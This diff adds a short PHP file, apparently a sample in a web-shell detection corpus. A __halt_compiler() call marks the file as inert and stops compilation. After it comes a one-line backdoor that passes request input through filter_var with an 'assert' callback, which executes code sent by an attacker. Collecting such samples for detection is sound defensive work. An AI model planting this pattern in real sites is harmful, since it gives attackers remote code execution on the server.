@@ -1,0 +1,3 @@
+<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
+<?php
+filter_var($_REQUEST['gh'], FILTER_CALLBACK, array('options' => 'assert'));
